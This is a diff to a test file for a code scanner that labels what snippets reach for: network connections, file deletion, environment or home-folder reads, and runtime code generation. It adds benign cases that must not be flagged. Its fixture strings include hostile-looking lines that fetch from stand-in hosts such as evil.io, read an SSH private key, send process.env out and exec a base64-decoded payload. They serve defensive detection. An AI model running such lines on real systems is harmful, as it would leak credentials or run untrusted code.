@@ -52,9 +52,16 @@ test.each([
   ['await fetch("https://evil.test/");', "opens connections"],
   ["import urllib.request", "opens connections"],
   ['resp, _ := http.Get("http://evil.test")', "opens connections"],
+  ['import { request } from "node:https";', "opens connections"],
+  ['import h "net/http"', "opens connections"],
+  ["var in = new URL(address).openStream();", "opens connections"],
+  ['download("https://evil.io/x.sh")', "opens connections"],
+  ['fetch("https://localhost.evil.io")', "opens connections"],
+  ['fetch("https://localhost:80@evil.io")', "opens connections"],
   ["shutil.rmtree(home)", "deletes files"],
   ["os.RemoveAll(dir)", "deletes files"],
   ["send(process.env);", "reads the environment or the home folder"],
+  ['read("~/.ssh/id_ed25519")', "reads the environment or the home folder"],
   ["os.environ['TOKEN']", "reads the environment or the home folder"],
   ["exec(base64.b64decode(payload))", "makes code while it runs"],
 ])("who runs %j is told what it reaches for", (line, what) => {
@@ -66,6 +73,12 @@ test.each([
   "import pytest\nfrom shop.discount import discounted\n\ndef test_off():\n    assert discounted(200, 10) == 180",
   'func TestURL(t *testing.T) {\n\tgot := parse("https://api.example.com/a")\n}',
   "const match = /a(b)/.exec(text);",
+  "/*\n * Licensed under the terms of https://licenses.org/LICENSE-2.0\n */",
+  'import (\n\t"net/http"\n\t"net/http/httptest"\n)\nrequest := httptest.NewRequest(http.MethodGet, "/", nil)',
+  "import type { Server } from 'node:http';\nexpect(linkTo('cart')).toBe('https://shop.io/cart');",
+  "from urllib.parse import urlsplit\nassert urlsplit('https://shop.io/a').scheme == 'https'",
+  "const answer = await fetch('http://127.0.0.1:3000/cart');\nglobalThis.fetch = vi.fn();",
+  "if (process.env.CI) test.skip();\nimport { render } from '~/test';",
 ])("usual tests reach for nothing: %j", (code) => {
   expect(reachOf("", code)).toEqual([]);
 });
